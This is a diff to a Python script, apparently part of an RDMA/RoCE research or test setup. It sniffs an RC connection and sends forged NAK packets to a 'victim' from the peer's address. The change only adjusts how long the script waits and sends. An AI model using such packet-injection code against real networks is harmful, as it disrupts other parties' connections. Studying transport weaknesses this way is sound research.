@@ -2,7 +2,8 @@
 # SPDX-License-Identifier: BSD-2-Clause
 """Another program of the peer's host: sees an RC connection pass on an interface and sends the victim NAKs for what is outstanding,
 from a UDP port of its own.
-usage: forge.py INTERFACE VICTIM PEER PORT SECONDS     prints how many were sent"""
+usage: forge.py INTERFACE VICTIM PEER PORT SECONDS     prints how many were sent
+SECONDS: from the first NAK on; it waits for a connection for a minute."""
 
 import socket
 import struct
@@ -35,7 +36,7 @@ def main():
     sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
     sender.bind((peer, port))
     qpn, sent = None, 0
-    end = time.monotonic() + seconds
+    end = time.monotonic() + 60
     while time.monotonic() < end:
         try:
             frame = sniffer.recv(128)
@@ -49,6 +50,8 @@ def main():
             qpn = bth_qpn
         elif source == victim and opcode != ACKNOWLEDGE and qpn is not None:
             sender.sendto(nak(victim, peer, port, qpn, psn), (victim, ROCE_PORT))
+            if sent == 0:
+                end = time.monotonic() + seconds
             sent += 1
     print(f"{sent} NAKs sent")
     return 0 if sent else 1
